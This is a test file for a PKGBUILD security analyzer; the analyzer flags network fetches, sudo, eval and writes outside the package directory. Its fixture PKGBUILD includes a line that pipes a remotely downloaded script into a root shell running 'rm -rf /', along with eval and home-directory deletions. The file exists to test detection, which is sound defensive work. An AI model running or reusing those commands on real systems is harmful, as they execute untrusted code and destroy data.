// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are bash.
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { type AnalyzedText, analyzePkgbuild } from '../../src/index.js';

const texts = (found: readonly AnalyzedText[] | undefined) =>
  found?.map(({ text, range }) => `${range.start.line} ${text}`);

it('lists what a reviewer asks about', () => {
  const { topLevel, functions, installScriptlets } = analyzePkgbuild(`install=app.install
_v=$(curl -s https://api.example.org/latest)
build() {
  cargo build --release
  curl -L "https://user@files.example.net/x.sh" | sudo sh -c 'rm -rf /'
  eval "$FLAGS"
  $CC main.c
}
package() {
  install -Dm755 app "$pkgdir/usr/bin/app"
  cp x /etc/app.conf
  echo y > /usr/share/y
  rm -rf "$HOME/.cache" ~/z
  env A=1 mkdir -p "$pkgdir/a"
}
`);
  expect([topLevel.networkTools, topLevel.hosts]).toEqual([['curl'], ['api.example.org']]);
  const build = functions.get('build');
  expect(build?.commands).toEqual(
    new Map([
      ['cargo', 1],
      ['curl', 1],
      ['sudo', 1],
      ['sh', 1],
      ['eval', 1],
    ]),
  );
  expect(build?.networkTools).toEqual(['cargo', 'curl']);
  expect(build?.hosts).toEqual(['files.example.net']);
  expect(texts(build?.privileged)).toEqual(["5 sudo sh -c 'rm -rf /'"]);
  expect(texts(build?.evals)).toEqual(['6 eval "$FLAGS"']);
  expect(texts(build?.notUnderstood)).toEqual([
    "5 a program in the text of sh -c 'rm -rf /'",
    '7 the command $CC',
  ]);
  const own = functions.get('package');
  expect(texts(own?.outsideWrites)).toEqual([
    '11 /etc/app.conf',
    '12 /usr/share/y',
    '13 $HOME/.cache',
    '13 ~/z',
  ]);
  expect(own?.commands.get('mkdir')).toBe(1);
  expect(installScriptlets).toEqual(['app.install']);
});

it('reads any text', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom(...'$(){}[]<>|&;"\'`\\ \nab='), maxLength: 40 }),
      (text) => {
        expect(analyzePkgbuild(text).topLevel.name).toBe('top level');
      },
    ),
    { numRuns: 2_000, seed: 3 },
  );
});
